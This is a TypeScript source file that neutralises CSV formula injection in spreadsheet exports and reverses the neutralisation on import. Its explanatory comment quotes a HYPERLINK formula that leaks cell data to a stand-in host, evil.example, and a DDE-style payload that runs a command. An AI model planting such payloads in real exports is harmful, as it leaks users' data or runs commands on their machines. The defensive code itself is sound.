/**
 * CSV formula injection (OWASP "CSV Injection"): Excel and WPS run a cell that begins with `=`,
 * `+`, `-` or `@` (and, in some versions, a tab or carriage return) as a formula, so a department
 * name such as `=HYPERLINK("http://evil.example/?"&A1)` in an export would leak data or run
 * commands on the bureau's PC. Such cells are written with a leading `'`, which spreadsheets take
 * as "text follows" and do not display.
 *
 * One exception, so that exported scores stay numbers a finance user can sum: a cell that is
 * exactly a plain decimal number (`-1.25`, `+3`) is left as it is; a spreadsheet reads it as that
 * number, never as a formula. Anything else starting with `-` (`-1+cmd|' /C calc'!A0`) is neutralised.
 *
 * The CSV import removes exactly that one `'` again (restoreCell), so export → import is lossless.
 * A value that really begins with `'` followed by one of the trigger characters gets a second `'`
 * on export, so it too comes back unchanged.
 */
const TRIGGER = /^'*[=+\-@\t\r]/;
const PLAIN_NUMBER = /^[+-]?\d+(\.\d+)?$/;

export function neutraliseCell(value: string): string {
  return TRIGGER.test(value) && !PLAIN_NUMBER.test(value) ? `'${value}` : value;
}

/** The inverse of neutraliseCell, for cells read from a CSV file. */
export function restoreCell(value: string): string {
  return /^'+[=+\-@\t\r]/.test(value) ? value.slice(1) : value;
}
